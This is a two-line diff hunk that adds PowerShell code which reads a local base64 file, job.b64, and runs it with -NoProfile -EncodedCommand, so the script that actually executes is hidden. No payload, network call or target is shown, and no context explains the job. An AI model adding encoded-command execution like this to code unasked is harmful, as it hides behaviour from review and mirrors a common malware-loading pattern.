@@ -1,0 +1,2 @@
+$encoded = Get-Content .\job.b64
+powershell.exe -NoProfile -EncodedCommand $encoded
